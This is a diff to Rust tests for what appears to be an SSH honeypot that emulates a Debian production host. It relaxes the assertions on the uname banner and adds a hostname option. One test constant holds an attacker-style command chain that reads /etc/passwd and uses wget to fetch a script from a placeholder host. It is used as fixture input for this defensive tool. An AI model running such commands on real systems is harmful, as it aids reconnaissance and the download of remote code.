@@ -14,12 +14,14 @@ use std::process::Stdio;
 use tokio::io::AsyncWriteExt;
 
 const SCRIPT: &str = "uname -a; cat /etc/passwd; wget http://x/y.sh";
-const UNAME: &str = "Linux web-prod-02 6.1.0-18-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.76-1 (2024-02-01) x86_64 GNU/Linux";
+/// `uname -a` up to the kernel's ABI number, which is the node persona's own.
+const UNAME: &str = "Linux web-prod-02 6.1.0-";
 
 fn ssh(login: LoginPolicy, delay_ms: u32) -> ServiceKind {
     ServiceKind::Ssh(SshOptions {
         login,
         auth_failure_delay_ms: delay_ms,
+        hostname: "web-prod-02".into(),
         ..Default::default()
     })
 }
@@ -144,7 +146,8 @@ async fn after_one_attempt_policy_then_scripted_exec() {
         "stdout {stdout} stderr {stderr}"
     );
     assert!(
-        stdout.starts_with(&format!("{UNAME}\nroot:x:0:0:root:/root:/bin/bash\n")),
+        stdout.starts_with(UNAME)
+            && stdout.contains(" x86_64 GNU/Linux\nroot:x:0:0:root:/root:/bin/bash\n"),
         "{stdout}"
     );
     assert!(
@@ -265,7 +268,8 @@ async fn interactive_tty_session_fed_on_stdin() {
         stdout.contains("Debian GNU/Linux comes with ABSOLUTELY NO WARRANTY"),
         "{stdout}"
     );
-    assert!(stdout.contains(&format!("{UNAME}\r\n")), "{stdout}");
+    assert!(stdout.contains(UNAME), "{stdout}");
+    assert!(stdout.contains(" x86_64 GNU/Linux\r\n"), "{stdout}");
     assert!(stdout.contains("root@web-prod-02:~# "), "{stdout}");
     assert!(stdout.contains("logout"), "{stdout}");
 
